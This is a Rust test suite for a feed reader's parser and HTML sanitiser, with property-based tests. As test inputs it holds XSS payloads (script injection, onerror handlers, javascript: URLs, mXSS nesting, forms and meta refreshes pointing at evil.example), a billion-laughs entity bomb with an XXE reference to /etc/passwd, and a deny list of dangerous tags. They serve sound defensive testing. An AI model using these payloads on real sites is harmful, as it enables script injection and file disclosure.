//! Whatever a source sends, an article keeps its promises.

use chrono::{TimeZone, Utc};
use pressrun::collect::{Feed, clean, parse};
use pressrun::model::{Article, Instant};
use proptest::prelude::*;
use unicode_normalization::is_nfc;
use unicode_segmentation::UnicodeSegmentation;
use url::Url;

/// Asserts what the documentation of [`Article`] promises.
pub(crate) fn keeps_its_promises(article: &Article) {
    assert!(matches!(article.url.scheme(), "http" | "https") && article.url.as_str().len() <= 2_000);
    let image = article.image.as_ref();
    assert!(
        image.is_none_or(|i| matches!(i.url.scheme(), "http" | "https") && i.url.as_str().len() <= 2_000)
    );
    let author = article.author.as_deref().unwrap_or("none");
    let alt = image.map_or("", |image| image.alt.as_str());
    for (text, limit) in [(article.title.as_str(), 300), (&article.summary, 500), (author, 120), (alt, 200)] {
        assert!(text.graphemes(true).count() <= limit, "{text:?}");
        assert!(!text.chars().any(char::is_control), "{text:?}");
        assert_eq!(text.trim(), text);
        is_clean(text);
    }
    assert!(!article.title.is_empty() && !author.is_empty());
    is_clean(&article.content);
    assert!(!article.content.chars().any(|c| c.is_control() && c != '\n'), "{:?}", article.content);
    is_harmless(&article.content);
    assert!(article.topics.len() <= 20);
    for topic in &article.topics {
        is_clean(topic);
        assert!(!topic.is_empty() && *topic == topic.to_lowercase());
    }
}

/// No code point of plane 16, no unbalanced direction mark, NFC.
fn is_clean(text: &str) {
    assert!(is_nfc(text), "{text:?}");
    assert!(!text.chars().any(|c| u32::from(c) >= 0x10_0000), "{text:?}");
    let mut open = Vec::new();
    for c in text.chars() {
        match c {
            '\u{202A}' | '\u{202B}' | '\u{2066}'..='\u{2068}' => open.push(c),
            '\u{202C}' => assert!(matches!(open.pop(), Some('\u{202A}' | '\u{202B}')), "{text:?}"),
            '\u{2069}' => assert!(matches!(open.pop(), Some('\u{2066}'..='\u{2068}')), "{text:?}"),
            '\u{202D}' | '\u{202E}' => panic!("{text:?}"),
            _ => {}
        }
    }
    assert!(open.is_empty(), "{text:?}");
}

/// No tag and no attribute that acts, loads or styles: the tags are taken apart without a parser of ours.
fn is_harmless(html: &str) {
    for tag in html.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or_default().to_ascii_lowercase();
        let name = tag.trim_start_matches('/').split(' ').next().unwrap_or_default();
        for bad in [
            "script", "style", "iframe", "form", "input", "button", "svg", "math", "object", "embed", "link",
            "meta", "base",
        ] {
            assert_ne!(name, bad, "{html}");
        }
        let attributes = tag.split('"').step_by(2).flat_map(|outside| outside.split_whitespace());
        for attribute in attributes.filter(|word| word.ends_with('=')) {
            let known = vec![
                "href=", "src=", "alt=", "width=", "height=", "dir=", "lang=", "title=", "start=",
                "colspan=", "rowspan=",
            ];
            assert!(known.contains(&attribute), "{attribute} in {html}");
        }
        for value in tag.split('"').skip(1).step_by(2) {
            assert!(!value.starts_with("javascript:") && !value.starts_with("data:"), "{html}");
        }
    }
}

fn base() -> Url {
    Url::parse("https://example.org/blog/feed.xml").expect("parses")
}

fn now() -> Instant {
    Utc.with_ymd_and_hms(2026, 11, 1, 12, 0, 0).single().expect("is a date")
}

fn read(document: &str) -> Feed {
    parse(document.as_bytes(), None, &base()).unwrap_or_else(|error| panic!("{error}: {document:.200}"))
}

/// The articles of a document, each checked.
fn articles(document: &str) -> Vec<Article> {
    let articles = clean(read(document), now());
    articles.iter().for_each(keeps_its_promises);
    articles
}

fn rss(items: &str) -> String {
    format!(
        "<rss version=\"2.0\"><channel><title>Feed</title><link>https://example.org/</link>{items}</channel></rss>"
    )
}

/// An article whose description is this HTML.
fn article(html: &str) -> Article {
    let item =
        format!("<item><title>T</title><link>/a</link><description><![CDATA[{html}]]></description></item>");
    articles(&rss(&item)).remove(0)
}

#[test]
fn nothing_in_an_article_acts_loads_or_styles() {
    for html in [
        "<script>bad()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>bad()</scr</script>ipt>",
        "<img src=x onerror=bad()>",
        "<a href=\"https://example.org\" onmouseover=\"bad()\">x</a>",
        "<a href=\"javascript:bad()\">x</a>",
        "<a href=\"&#106;avascript:bad()\">x</a>",
        "<a href=\"java\tscript:bad()\">x</a>",
        "<a href=\"data:text/html,<script>bad()</script>\">x</a>",
        "<form action=\"https://evil.example\"><input name=password><button>x</button></form>",
        "<iframe src=https://evil.example></iframe>",
        "<svg><animate onbegin=bad() attributeName=x></svg>",
        "<svg><style><img src=x onerror=bad()></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=bad()></style></mglyph></table></mtext></math>",
        "<style>body{display:none}</style>",
        "<p style=\"background:url(javascript:bad())\">x</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<object data=x><embed src=x></object>",
        "<base href=\"https://evil.example/\"><a href=x>x</a>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<noscript><p title=\"</noscript><img src=x onerror=bad()>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=bad()>\">",
        "<p id=a class=b name=c>x</p>",
        "<!--><img src=x onerror=bad()>-->",
        "<template><script>bad()</script></template>",
    ] {
        let article = article(html);
        assert!(
            !article.content.contains("evil.example") || !article.content.contains("src"),
            "{}",
            article.content
        );
        for word in ["onerror", "onbegin", "onmouseover", "javascript:", "position", "class=", " id="] {
            assert!(!article.content.contains(word), "{word} in {} of {html}", article.content);
        }
    }
}

#[test]
fn an_unclosed_anything_ends_with_its_article() {
    for html in [
        "<b><a href=/x>",
        "<!-- never closed",
        "<div><table><tr><td>",
        "<a href=\"never closed",
        "<script>",
        "<svg>",
        "<p title='",
    ] {
        let items = format!(
            "<item><title>One</title><link>/1</link><description><![CDATA[{html}]]></description></item>\
             <item><title>Two</title><link>/2</link><description>second text</description></item>"
        );
        let articles = articles(&rss(&items));
        assert_eq!(articles.len(), 2, "{html}");
        assert_eq!(
            (articles[1].title.as_str(), articles[1].summary.as_str()),
            ("Two", "second text"),
            "{html}"
        );
        let content = &articles[0].content;
        assert_eq!(content.matches("<b>").count(), content.matches("</b>").count(), "{content}");
    }
}

#[test]
fn markup_that_nothing_closes_costs_its_own_entry_only() {
    let good =
        "<item><title>Good</title><link>/good</link><description><![CDATA[whole]]></description></item>";
    for bad in [
        "<item><title>Bad<link>/bad</link></item>",
        "<item><title>Bad</title><link>/bad</link>",
        "<item><title>Bad</title><description><p>unclosed <b>html</description></item>",
        "<item><title>Bad</title><description><![CDATA[never closed</description></item>",
        "<item><title>Bad & worse</title><description>AT&T &nbsp; &bogus; 1 < 2</description></item>",
        "<item><title>Bad</title></link></description></b></item>",
        "<item><title>Bad</title><a:b xmlns:a='x'><c></a:b></item>",
    ] {
        let articles = articles(&rss(&format!("{bad}{good}")));
        assert_eq!(articles.len(), 2, "{bad}: {articles:?}");
        let last = &articles[1];
        assert_eq!((last.title.as_str(), last.summary.as_str()), ("Good", "whole"), "{bad}");
        assert_eq!(last.url.as_str(), "https://example.org/good", "{bad}");
    }
    let torn = rss(&format!("{good}<item><title>Bad</title><!-- never closed </item>"));
    assert_eq!(articles(&torn).len(), 2);
}

#[test]
fn line_breaks_nul_and_bidi_overrides_do_not_get_into_titles_and_names() {
    let item = "<item><title>Good&#13;&#10;Bcc: x@example.org&#10;&#0;\u{1}\u{7f}</title><link>/a</link>\
                <author>x@example.org (Ann&#13;&#10;To: y)</author><description>a\u{202e}b\u{2067}c</description>\
                <category>One&#10;Two</category><category>one two</category></item>";
    let article = &articles(&rss(item))[0];
    assert_eq!(article.title, "Good Bcc: x@example.org");
    assert_eq!(article.author.as_deref(), Some("Ann To: y"));
    assert_eq!(article.summary, "abc");
    assert_eq!(article.topics, ["one two"]);
}

#[test]
fn holes_cannot_be_made_by_a_source() {
    let holes = "\u{10FF01}\u{10FF02}&#x10FF01;";
    let item = format!(
        "<item><title>a{holes}</title><link>/x{holes}</link><author>b{holes}</author><category>c{holes}</category>\
         <description><![CDATA[<p>{holes}<a href=\"/{holes}\">d</a><img src=\"/e.png\" alt=\"{holes}\">]]></description></item>"
    );
    let article = &articles(&rss(&item))[0];
    let all = format!("{article:?}");
    assert!(!all.contains("10ff01") && !all.to_lowercase().contains("%f4%8f%bc%81"), "{all}");
}

#[test]
fn giant_titles_and_addresses_are_cut_or_replaced() {
    let long_url = format!("https://example.org/{}", "a".repeat(5_000));
    let item = format!(
        "<item><title>{}</title><link>{long_url}</link><guid>https://example.org/short</guid><description>x</description></item>\
         <item><title>b</title><link>{long_url}</link></item>",
        "word ".repeat(4_000)
    );
    let articles = articles(&rss(&item));
    assert_eq!(articles[0].url.as_str(), "https://example.org/short");
    assert_eq!(articles[1].url.as_str(), "https://example.org/");
    assert!(articles[0].title.ends_with('…'));
}

#[test]
fn entities_are_never_expanded() {
    let mut bomb = "<!DOCTYPE rss [<!ENTITY a0 \"boom\">".to_owned();
    for n in 1..40 {
        bomb.push_str(&format!("<!ENTITY a{n} \"{}\">", format!("&a{};", n - 1).repeat(10)));
    }
    bomb.push_str("<!ENTITY file SYSTEM \"file:///etc/passwd\">]>");
    bomb.push_str(&rss("<item><title>x &a39; &file;</title><link>/a</link></item>"));
    let articles = articles(&bomb);
    assert_eq!(articles[0].title, "x &a39; &file;");
}

#[test]
fn deep_nesting_costs_nothing() {
    let deep = 50_000;
    let html = format!("{}x{}", "<div>".repeat(deep), "</div>".repeat(deep));
    assert!(article(&html).content.len() < 2_000);
    let xml = format!("{}{}", "<x>".repeat(deep), "</x>".repeat(deep));
    let item = "<item><title>T</title><link>/a</link></item>";
    assert_eq!(articles(&rss(&format!("{xml}{item}"))).len(), 1);
    let inside = format!("<item><title>T</title><description>{xml}</description></item>{item}");
    assert_eq!(articles(&rss(&inside)).len(), 2);
}

#[test]
fn of_a_hundred_thousand_entries_the_newest_thousand_are_kept_in_their_order() {
    let mut items = String::new();
    for n in 0..100_000 {
        let year = if n % 100 == 7 { 2020 } else { 2010 };
        items.push_str(&format!(
            "<item><title>{n}</title><link>/{n}</link><pubDate>1 Jan {year}</pubDate></item>"
        ));
    }
    let feed = read(&rss(&items));
    let trouble = feed.trouble.clone().expect("is told");
    assert!(trouble.contains("100000 entries") && trouble.contains("1000"), "{trouble}");
    let links: Vec<&str> = feed.entries.iter().filter_map(|entry| entry.link.as_deref()).collect();
    assert_eq!((links.len(), links[0], links[999]), (1_000, "/7", "/99907"));
}

#[test]
fn a_torn_document_gives_its_whole_entries_and_says_so() {
    let whole =
        rss("<item><title>One</title><link>/1</link></item><item><title>Two</title><link>/2</link></item>");
    let end = whole.find("Two").expect("is there");
    for cut in [end, end + 3, end + 6, end + 14] {
        let feed = read(&whole[..cut]);
        assert_eq!(feed.entries.len(), 1, "{}", &whole[..cut]);
        assert_eq!(feed.trouble.as_deref(), Some("the document ends in the middle; 1 entry was whole"));
    }
    let tail = read(whole.trim_end_matches("</channel></rss>"));
    assert_eq!((tail.entries.len(), tail.trouble.is_some()), (2, true));
    let json =
        r#"{"version":"https://jsonfeed.org/version/1.1","items":[{"id":1,"title":"One"},{"id":2,"title":"T"#;
    let feed = read(json);
    assert_eq!((feed.entries.len(), feed.trouble.is_some()), (1, true));
}

#[test]
fn what_is_no_feed_is_told_by_its_kind() {
    let page = "<!DOCTYPE html><html><head><title>x</title><link rel=alternate type=application/rss+xml \
                title=Comments href=/comments><link rel=alternate type='application/atom+xml' href=atom.xml></head>";
    for (document, expected) in [
        ("", "empty"),
        (" \n\0", "empty"),
        (page, "announces its feed at https://example.org/blog/atom.xml"),
        ("<html><body>x", "announces no feed"),
        ("<?xml version='1.0'?><opml><body/></opml>", "root <opml>"),
        ("{\"a\":1}", "no list `items`"),
        ("[1,2]", "expected an object"),
        ("{\"items\":[{\"id\":1}]}", "neither `version` nor `title`"),
        ("{broken", "JSON"),
        ("hello", "`hello`"),
        ("\u{1f}\u{8b}\u{8}\0\0", "found something"),
    ] {
        let error = parse(document.as_bytes(), None, &base()).expect_err(document);
        assert!(error.to_string().contains(expected), "{document:?}: {error}");
    }
}

#[test]
fn entries_that_share_an_address_stay_apart_and_one_that_comes_twice_comes_once() {
    let home = articles(&rss(
        "<item><title>A</title><link>https://example.org/</link></item><item><title>B</title><link>https://example.org/</link></item>",
    ));
    assert_eq!(home.len(), 2);
    let twice = "<item><title>A</title><link>https://example.org/a?utm_source=x</link><guid>1</guid></item>\
                 <item><title>A</title><link>http://www.example.org/a/</link><guid>2</guid></item>";
    assert_eq!(articles(&rss(twice)).len(), 1);
    let moved = |guid: &str, url: &str, text: &str| {
        let item = format!(
            "<item><title>{text}</title><guid isPermaLink='false'>{guid}</guid><link>{url}</link></item>"
        );
        articles(&rss(&item))[0].fingerprint
    };
    let before = moved("1", "http://example.org/a", "Text");
    assert!(before.same_article(&moved("1", "https://example.org/a", "Text, edited")));
    assert!(before.same_article(&moved("2", "https://example.org/a", "Text")));
    assert!(!before.same_article(&moved("2", "https://example.org/b", "Text")));
}

#[test]
fn a_date_in_the_future_is_now_and_one_before_the_web_is_none() {
    let dated = |date: &str| {
        articles(&rss(&format!("<item><title>T</title><pubDate>{date}</pubDate></item>")))[0].published
    };
    assert_eq!(dated("1 Jan 2030"), Some(now()));
    assert_eq!(dated("1 Jan 1970"), None);
    assert_eq!(dated("some day"), None);
    assert!(dated("1 Jan 2020").is_some());
}

#[test]
fn an_entry_that_lacks_everything_still_has_a_title_and_an_address() {
    let made = articles(&rss("<item><pubDate>1 Jan 2020</pubDate></item>"));
    assert_eq!((made[0].title.as_str(), made[0].url.as_str()), ("example.org", "https://example.org/"));
    let words = articles(&rss("<item><description>&lt;p&gt;First words.&lt;/p&gt;</description></item>"));
    assert_eq!(words[0].title, "First words.");
    let file = Url::parse("file:///tmp/feed.xml").expect("parses");
    let feed = parse(b"<rss><channel><item><title>T</title></item></channel></rss>", None, &file)
        .expect("is a feed");
    clean(feed, now()).iter().for_each(keeps_its_promises);
}

/// Pieces of feeds and of attacks, to be thrown together.
fn piece() -> impl Strategy<Value = String> {
    let known = vec![
        "<rss>",
        "<channel>",
        "<item>",
        "</item>",
        "<title>",
        "</title>",
        "<link>/x</link>",
        "<guid>g</guid>",
        "<feed xmlns='http://www.w3.org/2005/Atom'>",
        "<entry>",
        "</entry>",
        "<content type='xhtml'>",
        "<content type=\"html\">",
        "</content>",
        "<description>",
        "</description>",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "<!DOCTYPE x [",
        "]>",
        "<!ENTITY a 'b'>",
        "&a;",
        "&amp;",
        "&#x10FF01;",
        "&#0;",
        "&",
        "<pubDate>Thu, 01 Jan 2004 19:48:21 GMT</pubDate>",
        "<media:content url='x.jpg' medium='image'/>",
        "<enclosure url='//e/x.png' type='image/png'/>",
        "<p>",
        "</p>",
        "<b>",
        "<a href='javascript:x'>",
        "<img src=/y.png width=1>",
        "<script>",
        "</script>",
        "<svg>",
        "<table><tr><td>",
        "xml:base='http://b/'",
        "xmlns=''",
        "<x:y xmlns:x='z'>",
        "\u{202e}",
        "\u{2067}",
        "\u{301}",
        "e",
        "\u{10FF01}",
        "שלום",
        "<",
        ">",
        "\"",
        "'",
        "/",
        "{",
        "}",
        "{\"version\":\"https://jsonfeed.org/version/1\",\"items\":[",
        "{\"id\":1,\"title\":",
        "]}",
        "<?xml version='1.0'?>",
        "</rss>",
        "</feed>",
        "<?",
        "?>",
        "<!>",
        "<!-->",
        "<!--->",
        "</>",
        "<>",
        "< ",
        "<![CDATA[]]",
        "<!DOCTYPE",
    ];
    prop_oneof![6 => prop::sample::select(known).prop_map(str::to_owned), 1 => "\\PC{0,12}"]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn no_bytes_at_all_make_the_reader_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        if let Ok(feed) = parse(&bytes, None, &base()) {
            clean(feed, now()).iter().for_each(keeps_its_promises);
        }
    }

    #[test]
    fn no_mixture_of_feeds_and_attacks_breaks_a_promise(pieces in prop::collection::vec(piece(), 0..60)) {
        if let Ok(feed) = parse(format!("<rss><item>{}", pieces.concat()).as_bytes(), None, &base()) {
            clean(feed, now()).iter().for_each(keeps_its_promises);
        }
        if let Ok(feed) = parse(pieces.concat().as_bytes(), Some("text/xml; charset=utf-8"), &base()) {
            clean(feed, now()).iter().for_each(keeps_its_promises);
        }
    }

    #[test]
    fn a_feed_with_a_wound_anywhere_is_read_or_refused(at in 0_usize..1000, length in 0_usize..40, patch in piece()) {
        let whole = include_str!("../data/feeds/everything.xml");
        let start = whole.floor_char_boundary(at * whole.len() / 1000);
        let end = whole.floor_char_boundary((start + length).min(whole.len())).max(start);
        let wounded = format!("{}{patch}{}", &whole[..start], &whole[end..]);
        if let Ok(feed) = parse(wounded.as_bytes(), None, &base()) {
            clean(feed, now()).iter().for_each(keeps_its_promises);
        }
    }

    #[test]
    fn every_title_makes_a_title(title in "\\PC{0,400}", text in any::<String>()) {
        let entry = serde_json::json!({"version": "https://jsonfeed.org/version/1.1", "items": [
            {"id": text, "title": title, "content_html": text, "summary": title, "author": {"name": text}, "tags": [title, text]}]});
        clean(read(&entry.to_string()), now()).iter().for_each(keeps_its_promises);
    }
}
